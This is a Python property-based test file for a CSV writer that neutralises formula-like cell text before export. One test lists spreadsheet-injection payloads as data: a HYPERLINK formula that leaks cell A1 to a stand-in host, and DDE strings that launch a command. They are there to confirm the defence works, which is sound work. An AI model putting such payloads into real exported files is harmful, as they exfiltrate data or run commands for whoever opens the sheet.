from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from rushlight.workshop.exchange.csv_writer import Cell, csv_lines, neutral, write_csv
from rushlight.workshop.exchange.reader import read_table

# what a table may hold: no control characters, no half characters
TEXT = st.text(st.characters(exclude_categories=("Cc", "Cs")) | st.sampled_from("\n\r\t,;\"'=+-@"))
HEADING = st.text(st.characters(categories=("L", "N")) | st.sampled_from(',;"'), min_size=1)


@st.composite
def tables(draw: st.DrawFn) -> tuple[list[str], list[list[str]]]:
    """Draw a table with different headings and no blank row."""
    header = draw(st.lists(HEADING, min_size=1, max_size=4, unique_by=str.casefold))
    row = st.lists(TEXT, min_size=len(header), max_size=len(header))
    rows = draw(st.lists(row.filter(lambda r: any(c.strip() for c in r)), min_size=1, max_size=4))
    return header, rows


@given(tables())
def test_what_is_written_plain_is_read_back_as_it_was(
    table: tuple[list[str], list[list[str]]],
) -> None:
    """Every separator, quotation mark, line end and sign, whatever the text."""
    header, rows = table
    found = read_table("x.csv", write_csv(header, rows, plain=True))
    assert list(found.header) == header
    assert [list(row.cells) for row in found.rows] == rows


@given(st.lists(st.lists(TEXT, min_size=2, max_size=2), min_size=1))
def test_another_reader_of_rfc_4180_reads_the_same(rows: list[list[str]]) -> None:
    """The csv module of Python in its strict mode, an outside check."""
    text = write_csv(("a", "b"), rows, plain=True).decode()
    assert list(csv.reader(io.StringIO(text, newline=""), strict=True))[1:] == rows


@given(TEXT)
def test_no_text_for_a_spreadsheet_begins_like_a_formula(text: str) -> None:
    """After a neutralised beginning, and however often it is done."""
    found = neutral(text)
    first = found.lstrip(" \t\r\n\u200b\ufeff")[:1]
    assume(not found.strip()[1:2].isdigit())
    if text.lstrip()[:1] in ("=", "@"):
        assert first == "'"
    assert found.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.invalid/?"&A1,"here")',
        "@SUM(1)",
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1",
        "\r=1",
        "  =1",
        "＝1+1",
        "-A1",
    ],
)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    """The usual payloads, with blanks or wide signs before them (common practice)."""
    assert "'" in neutral(text)
    assert neutral(text).index("'") < text.find(text.strip()[0]) + 1
    assert f'"{text}"'.encode() in write_csv(("a",), [(text,)], plain=True) or '"' in text


@pytest.mark.parametrize(
    "text",
    ["-5", "-5.00", "+12", "−3.5", "-5 g", "-£5.00", "-1,250.5 kg", "-8 %", "+44 20 7946 0018"],
)
def test_numbers_keep_their_sign(text: str) -> None:
    """As shown texts too: with a unit, a currency, a percent sign, or dialled."""
    assert neutral(text) == text
    assert f'"{text}"'.encode() in write_csv(("a",), [(text,)])


def test_a_field_opened_with_another_separator_stays_text() -> None:
    """A program set to semicolons parts “a;=1” in two, quotation marks or not."""
    assert neutral("lamp;=1+1") == "lamp;'=1+1"
    assert neutral("lamp\n@x") == "lamp\n'@x"
    assert neutral("well-known = good; a-b") == "well-known = good; a-b"


def test_cells_are_written_by_their_kind() -> None:
    """Nothing, an empty text, numbers without exponent, days in ISO 8601, CRLF (RFC 4180, 2.1)."""
    row: tuple[Cell, ...] = (None, "", -5, Decimal("1E+3"), Decimal("-0.0001"), date(2026, 5, 17))
    content = write_csv(list("abcdef"), [row], plain=True)
    assert content == b'"a","b","c","d","e","f"\r\n,"",-5,1000,-0.0001,2026-05-17\r\n'


def test_a_table_for_a_spreadsheet_says_that_it_is_utf_8() -> None:
    """By a byte order mark, which the reader takes off again."""
    content = write_csv(("Crème",), [("brûlée",)])
    assert content.startswith(b"\xef\xbb\xbf")
    assert read_table("x", content).header == ("Crème",)


def test_a_long_table_is_given_line_by_line_and_a_ragged_one_not_at_all() -> None:
    """Nothing is held; a row of another width is a fault of ours."""
    lines = csv_lines(("a", "b"), ((i, "x") for i in range(10**9)), plain=True)
    assert [next(lines) for _ in range(2)] == [b'"a","b"\r\n', b'0,"x"\r\n']
    with pytest.raises(ValueError, match="a row of 1"):
        write_csv(("a", "b"), [("1",)])
